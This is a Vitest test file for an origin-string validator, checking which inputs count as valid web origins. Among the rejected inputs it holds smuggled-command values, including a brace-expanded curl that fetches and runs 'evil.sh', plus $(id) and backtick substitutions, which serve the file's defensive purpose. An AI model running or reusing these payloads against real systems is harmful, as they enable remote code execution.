// @vitest-environment node
import { expect, test } from 'vitest';
import { isOrigin } from '../../../src/consent/origin';

test.each([
  'https://klouttrack.com',
  'http://localhost:8080',
  'https://xn--mnchen-3ya.example',
  'https://a_b.klouttrack.com',
  'http://192.0.2.1',
  'http://[2001:db8::1]:8080',
])('%s is an origin', (text) => expect(isOrigin(text)).toBe(true));

test.each([
  // URLs have all these as hosts.
  'https://x;{curl,-so,x,evil.sh};{sh,x}',
  'https://a$(id).com',
  'https://a`id`.com',
  'https://a&b',
  "https://a'b",
  'https://a;script-src',
  'https://a,b',
  // And these are none.
  'https://klouttrack.com/',
  'https://klouttrack.com:443',
  'https://KLOUTTRACK.com',
  'https://klouttrack.com\n',
  'https://a@klouttrack.com',
  'ftp://klouttrack.com',
  'https://',
  'null',
  '',
  undefined,
  ['https://klouttrack.com'],
])('%j is none', (value) => expect(isOrigin(value)).toBe(false));
